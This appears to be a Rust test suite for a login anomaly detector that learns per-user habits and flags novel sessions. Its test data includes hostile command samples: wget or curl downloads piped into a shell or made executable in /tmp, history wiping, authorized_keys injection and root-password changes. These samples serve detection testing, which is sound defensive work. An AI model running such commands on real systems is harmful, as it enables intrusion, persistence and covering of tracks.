        let cmds: Vec<String> = ["/usr/bin/apt update", "systemctl status nginx", "journalctl -u nginx", "ls -la /etc"]
            .map(String::from)
            .into();
        for day in 0..21 {
            let hour = 9 + (day % 8) as u8;
            let start = T0 + day * DAY + i64::from(hour) * 3600;
            let f = fp(hour, 20.0 + (day % 5) as f32 * 5.0, 4, 0, Protocol::Ssh);
            let addr = ip(&format!("198.51.100.{}", 10 + day));
            assert!(b.learn(&SessionFacts::new("alice", addr, start, &f, &cmds, false), false));
        }
        b
    }

    #[test]
    fn mistyping_user_from_home_at_the_usual_hour_is_not_novel() {
        let mut b = alice_at_home();
        let start = T0 + 22 * DAY + 10 * 3600;
        // Two typos, then in: the device counts the failures, no spike.
        b.observe_failures(start - 30, 2);
        b.observe_login(start);
        let f = fp(10, 25.0, 3, 2, Protocol::Ssh);
        let cmds: Vec<String> =
            ["systemctl status nginx", "journalctl -u nginx", "ls -la /etc"].map(String::from).into();
        let n = b.novelty(&SessionFacts::new("alice", ip("198.51.100.77"), start, &f, &cmds, false));
        assert!(!n.is_novel(), "{n:?}");
        assert!(n.reasons.is_empty());
        assert!(!n.escalates());
    }

    #[test]
    fn same_user_from_a_new_network_at_three_with_a_download_and_run_is_novel_and_escalates() {
        let b = alice_at_home();
        let start = T0 + 22 * DAY + 3 * 3600;
        let f = fp(3, 4.0, 3, 0, Protocol::Ssh);
        let cmds: Vec<String> =
            ["cd /tmp", "wget http://203.0.113.9/x.sh -O x.sh", "chmod +x x.sh"].map(String::from).into();
        let n = b.novelty(&SessionFacts::new("alice", ip("203.0.113.50"), start, &f, &cmds, false));
        assert!(n.new_network_for_user && n.rare_hour_for_user && n.first_risky_command, "{n:?}");
        assert!(!n.never_seen_user && !n.new_protocol_for_user);
        assert!(n.escalates());
        assert_eq!(n.new_commands, 3, "cd, wget and chmod were never seen from alice");
        let all = n.reasons.join(" | ");
        assert!(all.contains("first login by alice from 203.0.113.0/24 (203.0.113.50)"), "{all}");
        assert!(all.contains("alice never logs in at 03:00"), "{all}");
        assert!(all.contains("ran wget then chmod +x in /tmp, a first for alice"), "{all}");
        assert_eq!(n.features()[..4], [0.0, 1.0, 1.0, 0.0]);
    }

    #[test]
    fn a_new_network_at_the_usual_hour_without_risky_commands_is_novel_but_does_not_escalate() {
        let b = alice_at_home();
        let start = T0 + 22 * DAY + 11 * 3600;
        let f = fp(11, 25.0, 1, 0, Protocol::Ssh);
        let cmds = vec!["systemctl status nginx".to_string()];
        let n = b.novelty(&SessionFacts::new("alice", ip("2001:db8:7:1::5"), start, &f, &cmds, false));
        assert!(n.new_network_for_user && !n.rare_hour_for_user && !n.first_risky_command);
        assert!(!n.escalates(), "a travelling admin is not an attacker");
        assert_eq!(n.reasons, vec!["first login by alice from 2001:db8:7::/48 (2001:db8:7:1::5)"]);
    }

    #[test]
    fn a_first_root_shell_or_account_change_is_a_reason_and_escalates_only_with_something_else_new() {
        let b = alice_at_home();
        let start = T0 + 22 * DAY + 10 * 3600;
        let f = fp(10, 25.0, 2, 0, Protocol::Ssh);
        for first in ["sudo -i", "sudo su -", "su -", "sudo bash"] {
            let cmds: Vec<String> = ["systemctl status nginx", first].map(String::from).into();
            // From home at her usual hour: a reason, not an escalation.
            let n = b.novelty(&SessionFacts::new("alice", ip("198.51.100.40"), start, &f, &cmds, false));
            assert!(n.first_root_shell && !n.first_account_change, "{first}: {n:?}");
            assert!(!n.escalation_is_new() && !n.escalates(), "{first}: admins take up `sudo -i` one day");
            assert!(n.reasons.iter().any(|r| r == "alice opened a root shell, a first for them"), "{:?}", n.reasons);
            // The same from a network no one of hers comes from: escalates.
            let n = b.novelty(&SessionFacts::new("alice", ip("203.0.113.50"), start, &f, &cmds, false));
            assert!(n.escalation_is_new() && n.escalates(), "{first}: {n:?}");
        }
        for change in ["useradd -m helpdesk", "usermod -aG sudo helpdesk", "passwd root"] {
            let cmds: Vec<String> = ["ls -la /etc", change].map(String::from).into();
            let n = b.novelty(&SessionFacts::new("alice", ip("198.51.100.40"), start, &f, &cmds, false));
            assert!(n.first_account_change && !n.first_root_shell, "{change}: {n:?}");
            assert!(!n.escalation_is_new(), "{change}");
            assert!(n.reasons.iter().any(|r| r == "alice changed accounts or passwords, a first for them"));
            let at_three = fp(3, 25.0, 2, 0, Protocol::Ssh);
            let night =
                b.novelty(&SessionFacts::new("alice", ip("198.51.100.40"), start - 7 * 3600, &at_three, &cmds, false));
            assert!(night.rare_hour_for_user && night.escalation_is_new(), "{change} at 03:00: {night:?}");
        }
        // `passwd` alone changes one's own password; a refused root shell is
        // not one she opened (the refusal rules judge it).
        let own: Vec<String> = vec!["passwd".into(), "sudo(denied: user NOT in sudoers) -i".into()];
        let n = b.novelty(&SessionFacts::new("alice", ip("198.51.100.40"), start, &f, &own, false));
        assert!(!n.first_account_change && !n.first_root_shell, "{n:?}");
        // Once learnt, the next root shell is hers.
        let mut b = b;
        let cmds: Vec<String> = vec!["sudo -i".into()];
        assert!(b.learn(&SessionFacts::new("alice", ip("198.51.100.40"), start, &f, &cmds, false), false));
        let n = b.novelty(&SessionFacts::new("alice", ip("203.0.113.50"), start + DAY, &f, &cmds, false));
        assert!(!n.first_root_shell && !n.escalation_is_new(), "{n:?}");
    }

    #[test]
    fn a_refused_command_is_neither_a_new_command_nor_a_first_risky_one() {
        let b = alice_at_home();
        let start = T0 + 22 * DAY + 10 * 3600;
        let f = fp(10, 25.0, 2, 0, Protocol::Ssh);
        let cmds: Vec<String> = vec![
            "systemctl status nginx".into(),
            "sudo(denied: command not allowed) /usr/bin/wget http://198.18.7.3/k -O /tmp/.x".into(),
            "su(denied) root".into(),
        ];
        let n = b.novelty(&SessionFacts::new("alice", ip("198.51.100.40"), start, &f, &cmds, false));
        assert_eq!(n.new_commands, 0, "{n:?}");
        assert!(!n.first_risky_command, "it never ran: {n:?}");
        assert!(n.reasons.iter().all(|r| !r.contains("denied")), "{:?}", n.reasons);
    }

    #[test]
    fn night_shift_admin_at_night_is_not_rare() {
        let mut b = Baselines::new(BaselineConfig::default());
        for day in 0..14 {
            let hour = [1u8, 2, 3][day as usize % 3];
            let f = fp(hour, 60.0, 0, 0, Protocol::Ssh);
            b.learn(
                &SessionFacts::new("bob", ip("192.0.2.8"), T0 + day * DAY + i64::from(hour) * 3600, &f, &[], false),
                false,
            );
        }
        let f = fp(3, 55.0, 0, 0, Protocol::Ssh);
        let n = b.novelty(&SessionFacts::new("bob", ip("192.0.2.9"), T0 + 15 * DAY + 3 * 3600, &f, &[], false));
        assert!(!n.is_novel(), "{n:?}");
        let f = fp(14, 55.0, 0, 0, Protocol::Ssh);
        let n = b.novelty(&SessionFacts::new("bob", ip("192.0.2.9"), T0 + 15 * DAY + 14 * 3600, &f, &[], false));
        assert!(n.rare_hour_for_user, "14:00 is the odd hour for bob");
    }

    #[test]
    fn suspicious_sessions_are_never_learnt() {
        let mut b = alice_at_home();
        let f = fp(3, 4.0, 1, 0, Protocol::Ssh);
        let cmds = vec!["wget http://203.0.113.9/x".to_string()];
        let s = SessionFacts::new("alice", ip("203.0.113.50"), T0 + 30 * DAY, &f, &cmds, false);
        let before = b.clone();
        assert!(!b.learn(&s, true));
        assert_eq!(b, before);
        assert!(b.novelty(&s).first_risky_command);
        let s = SessionFacts::new("mallory", ip("203.0.113.50"), T0 + 30 * DAY, &f, &cmds, false);
        assert!(!b.learn(&s, true));
        assert!(b.novelty(&s).never_seen_user);
    }

    #[test]
    fn unknown_user_and_new_protocol_and_unusual_length_and_cadence() {
        let b = alice_at_home();
        let f = fp(10, 25.0, 0, 0, Protocol::Ftp);
        let n = b.novelty(&SessionFacts::new("carol", ip("198.51.100.3"), T0 + 22 * DAY, &f, &[], false));
        assert!(n.never_seen_user);
        assert_eq!(n.reasons, vec!["first login by carol on this device"]);
        let n = b.novelty(&SessionFacts::new("alice", ip("198.51.100.3"), T0 + 22 * DAY, &f, &[], false));
        assert!(n.new_protocol_for_user);
        assert_eq!(n.reasons, vec!["first FTP login by alice"]);

        // 12 hours instead of ~30 min; 4 commands/min... then 300 commands in 2 min.
        let f = fp(10, 720.0, 4, 0, Protocol::Ssh);
        let n = b.novelty(&SessionFacts::new("alice", ip("198.51.100.3"), T0 + 22 * DAY, &f, &[], false));
        assert!(n.unusual_session_length && !n.unusual_command_cadence, "{n:?}");
        let f = fp(10, 2.0, 300, 0, Protocol::Ssh);
        let n = b.novelty(&SessionFacts::new("alice", ip("198.51.100.3"), T0 + 22 * DAY, &f, &[], false));
        assert!(n.unusual_command_cadence, "{n:?}");
        assert!(n.reasons.iter().any(|r| r.starts_with("150 commands a minute, alice usually runs about")), "{n:?}");
        // An open session's length is not final: not judged.
        let n = b.novelty(&SessionFacts::new("alice", ip("198.51.100.3"), T0 + 22 * DAY, &f, &[], true));
        assert!(!n.unusual_session_length && !n.unusual_command_cadence);
    }

    #[test]
    fn an_unknown_user_downloading_escalates_only_on_a_device_with_a_history() {
        let f = fp(10, 5.0, 2, 0, Protocol::Ssh);
        let cmds: Vec<String> = ["wget http://203.0.113.9/x", "chmod +x x"].map(String::from).into();
        // A fresh install: the admin's set-up session fetching packages.
        let fresh = Baselines::new(BaselineConfig::default());
        let n = fresh.novelty(&SessionFacts::new("ubuntu", ip("198.51.100.7"), T0, &f, &cmds, false));
        assert!(n.never_seen_user && n.first_risky_command && !n.device_has_history);
        assert!(!n.escalates());
        // Three weeks of alice: a stranger doing the same is news.
        let b = alice_at_home();
        let n = b.novelty(&SessionFacts::new("mallory", ip("198.51.100.7"), T0 + 22 * DAY, &f, &cmds, false));
        assert!(n.never_seen_user && n.device_has_history && n.escalates());
    }

    #[test]
    fn an_account_arriving_from_network_after_network_within_a_day_escalates() {
        let f = fp(10, 1.0, 0, 0, Protocol::Ssh);
        let login = |b: &mut Baselines, addr: &str, at: i64| {
            let s = SessionFacts::new("alice", ip(addr), at, &f, &[], false);
            let n = b.novelty(&s);
            b.learn(&s, n.escalates());
            n
        };
        // A travelling admin: home, then an airport and a hotel the same day.
        let mut b = alice_at_home();
        let day = T0 + 30 * DAY;
        assert!(!login(&mut b, "192.0.2.10", day + 8 * 3600).escalates());
        assert!(!login(&mut b, "203.0.113.80", day + 20 * 3600).escalates());
        // A third and a fourth new network within 24 hours: not travelling.
        let n = login(&mut b, "198.18.7.1", day + 22 * 3600);
        assert!(n.new_network_for_user && !n.network_churn, "{n:?}");
        let n = login(&mut b, "100.64.9.9", day + 23 * 3600);
        assert!(n.network_churn && n.escalates(), "{n:?}");
        assert!(n.reasons.contains(&"alice logged in from 4 networks new to them within 24 hours".to_string()));
        // The same four networks one a day: no churn.
        let mut b = alice_at_home();
        for (k, addr) in ["192.0.2.10", "203.0.113.80", "198.18.7.1", "100.64.9.9"].iter().enumerate() {
            let n = login(&mut b, addr, day + k as i64 * DAY + 10 * 3600);
            assert!(n.new_network_for_user && !n.network_churn, "{addr}: {n:?}");
        }
    }

    #[test]
    fn admin_who_always_uses_curl_gets_no_first_risky_command() {
        let mut b = Baselines::new(BaselineConfig::default());
        let cmds = vec!["curl -s http://localhost:8080/health".to_string()];
        for day in 0..6 {
            let f = fp(10, 5.0, 1, 0, Protocol::Ssh);
            b.learn(&SessionFacts::new("ops", ip("192.0.2.1"), T0 + day * DAY + 36_000, &f, &cmds, false), false);
        }
        let f = fp(10, 5.0, 1, 0, Protocol::Ssh);
        let n = b.novelty(&SessionFacts::new("ops", ip("192.0.2.1"), T0 + 7 * DAY + 36_000, &f, &cmds, false));
        assert!(!n.first_risky_command && !n.is_novel(), "{n:?}");
    }

    #[test]
    fn failure_spike_against_the_device_usual_rate() {
        let mut b = alice_at_home();
        // Two days of a few typos an hour, then 150 failures in one hour.
        let start = T0 + 40 * DAY;
        for h in 0..48 {
            b.observe_failures(start + h * 3600 + 60, (h % 3) as u32);
        }
        let attack_hour = start + 48 * 3600;
        b.observe_failures(attack_hour + 10, 150);
        let f = fp(0, 1.0, 0, 0, Protocol::Ssh);
        let n = b.novelty(&SessionFacts::new("alice", ip("198.51.100.3"), attack_hour + 20, &f, &[], false));
        assert!(n.failure_spike, "{n:?}");
        assert!(n.reasons.iter().any(|r| r.starts_with("150 failed logins on this device this hour, usually about")));
        // The attack hour does not become the usual.
        b.observe_failures(attack_hour + 3600 + 10, 150);
        let n = b.novelty(&SessionFacts::new("alice", ip("198.51.100.3"), attack_hour + 3620, &f, &[], false));
        assert!(n.failure_spike, "a second attack hour is still a spike");
        // A quiet hour after it is no spike.
        b.observe_failures(attack_hour + 2 * 3600 + 10, 2);
        let n = b.novelty(&SessionFacts::new("alice", ip("198.51.100.3"), attack_hour + 7220, &f, &[], false));
        assert!(!n.failure_spike);
    }

    #[test]
    fn login_spike() {
        let mut b = Baselines::new(BaselineConfig::default());
        for h in 0..30 {
            b.observe_login(T0 + h * 3600 + 5);
        }
        let at = T0 + 30 * 3600;
        for i in 0..40 {
            b.observe_login(at + i);
        }
        let f = fp(6, 1.0, 0, 0, Protocol::Ssh);
        let n = b.novelty(&SessionFacts::new("x", None, at + 50, &f, &[], false));
        assert!(n.login_spike && n.never_seen_user);
    }

    #[test]
    fn memory_stays_bounded_under_a_flood_of_users_and_networks() {
        let mut b = Baselines::new(BaselineConfig::default());
        let f = fp(10, 5.0, 1, 0, Protocol::Ssh);
        // One regular admin, then 100k one-off users and 100k networks for
        // the admin, interleaved.
        let cmds: Vec<String> = (0..100).map(|i| format!("tool{i} --flag")).collect();
        for i in 0..100_000i64 {
            let t = T0 + i * 60;
            let user = format!("u{i}");
            let net = IpAddr::V4(std::net::Ipv4Addr::from((i as u32) << 8));
            b.learn(&SessionFacts::new(&user, Some(net), t, &f, &[], false), false);
            b.learn(&SessionFacts::new("admin", Some(net), t, &f, &cmds[i as usize % 100..][..1], false), false);
        }
        assert_eq!(b.user_count(), 64);
        assert!(b.sessions_of("admin") == 100_000, "the busiest, most recent user is kept");
        let size = b.state_size();
        // 64 users * (fixed part + 8 networks + 32 commands) — tens of KB.
        assert!(size < 40 * 1024, "state is {size} bytes");
        assert_eq!(b.to_bytes().unwrap().len(), size);
        let admin = b.find("admin").unwrap();
        assert_eq!((admin.networks.len(), admin.commands.len()), (MAX_NETWORKS_PER_USER, MAX_COMMANDS_PER_USER));
    }

    #[test]
    fn worst_case_state_is_tens_of_kilobytes() {
        // Every one of the 64 users with full network and command sets.
        let mut b = Baselines::new(BaselineConfig::default());
        let f = fp(10, 5.0, 1, 0, Protocol::Ssh);
        for u in 0..64u32 {
            let user = format!("user-with-a-long-name-{u}");
            for i in 0..40u32 {
                let net = IpAddr::V4(std::net::Ipv4Addr::from((u << 20) | (i << 8)));
                let cmds = vec![format!("/usr/local/bin/tool-{i} --flag")];
                b.learn(&SessionFacts::new(&user, Some(net), T0 + i64::from(u * 100 + i), &f, &cmds, false), false);
            }
        }
        assert_eq!(b.user_count(), 64);
        let size = b.state_size();
        assert!(size < 32 * 1024, "worst case {size} bytes");
    }

    #[test]
    fn persistence_round_trip() {
        let mut b = alice_at_home();
        b.observe_failures(T0 + 3600, 3);
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("baselines.bin");
        b.save(&mut std::fs::File::create(&path).unwrap()).unwrap();
        let back = Baselines::load(&path, BaselineConfig::default()).unwrap();
        assert_eq!(back, b);
        let mut bytes = Vec::new();
        back.save(&mut bytes).unwrap();
        assert_eq!(bytes, std::fs::read(&path).unwrap());
        let (again, err) = Baselines::load_or_fresh(&path, BaselineConfig::default());
        assert!(err.is_none());
        assert_eq!(again.sessions_of("alice"), 21);
    }

    #[test]
    fn a_corrupted_state_file_gives_a_clear_error_and_fresh_baselines() {
        let b = alice_at_home();
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("baselines.bin");
        let good = b.to_bytes().unwrap();
        let cases: Vec<(Vec<u8>, &str)> = vec![
            (b"garbage, not a state".to_vec(), "bad magic"),
            (good[..good.len() / 2].to_vec(), "decode"),
            ([good.clone(), vec![1, 2, 3]].concat(), "trailing bytes"),
            (Vec::new(), "bad magic"),
            (
                {
                    let mut v = good.clone();
                    v[4] = 9; // version field (postcard varint right after the magic)
                    v
                },
                "version 9",
            ),
        ];
        for (bytes, expect) in cases {
            std::fs::write(&path, &bytes).unwrap();
            let (fresh, err) = Baselines::load_or_fresh(&path, BaselineConfig::default());
            let err = err.expect("an error is reported").to_string();
            assert!(err.contains(expect) && err.contains("baselines.bin"), "{err}");
            assert_eq!(fresh.user_count(), 0);
        }
        // Too many users for this configuration is refused, not truncated silently.
        std::fs::write(&path, &good).unwrap();
        let small = BaselineConfig { max_users: 1, ..BaselineConfig::default() };
        let mut two = b.clone();
        let f = fp(10, 5.0, 0, 0, Protocol::Ssh);
        two.learn(&SessionFacts::new("bob", None, T0, &f, &[], false), false);
        std::fs::write(&path, two.to_bytes().unwrap()).unwrap();
        let (_, err) = Baselines::load_or_fresh(&path, small);
        assert!(err.unwrap().to_string().contains("more than max_users = 1"));
        // A missing file is a first start, not an error.
        let (_, err) = Baselines::load_or_fresh(&dir.path().join("none"), BaselineConfig::default());
        assert!(err.is_none());
    }

    #[test]
    fn networks_and_names() {
        assert_eq!(network_name("203.0.113.77".parse().unwrap()), "203.0.113.0/24");
        assert_eq!(network_name("::ffff:203.0.113.77".parse().unwrap()), "203.0.113.0/24");
        assert_eq!(network_name("2001:db8:aa:bb::1".parse().unwrap()), "2001:db8:aa::/48");
        let k = |s: &str| network_key(s.parse().unwrap());
        assert_eq!(k("203.0.113.1"), k("203.0.113.254"));
        assert_ne!(k("203.0.113.1"), k("203.0.114.1"));
        assert_eq!(k("2001:db8:aa:1::1"), k("2001:db8:aa:ffff::2"));
        assert_ne!(k("2001:db8:aa::1"), k("2001:db8:ab::1"));
        assert_ne!(k("0.0.0.1"), k("::1"));
    }

    #[test]
    fn command_names_and_risky_chains() {
        let names: Vec<&str> =
            command_names("cd /tmp; wget http://x/y && chmod +x y | sudo /usr/bin/apt -y install z; X=1 ./y").collect();
        assert_eq!(names, vec!["cd", "wget", "chmod", "apt", "y"]);
        let chain = |c: &[&str]| describe_risky_chain(&c.iter().map(|s| s.to_string()).collect::<Vec<_>>());
        assert_eq!(chain(&["ls", "uptime"]), None);
        assert_eq!(
            chain(&["cd /tmp", "wget http://x/a", "chmod +x a", "./a"]).unwrap(),
            "ran wget then chmod +x in /tmp"
        );
        assert_eq!(chain(&["wget -qO- http://203.0.113.9/i.sh | sh"]).unwrap(), "piped a wget download into a shell");
        assert_eq!(
            chain(&["curl http://x/m | bash", "crontab -l", "history -c"]).unwrap(),
            "piped a curl download into a shell, then crontab then history -c"
        );
        assert_eq!(chain(&["echo ssh-rsa AAA >> ~/.ssh/authorized_keys"]).unwrap(), "ran an authorized_keys change");
    }
}
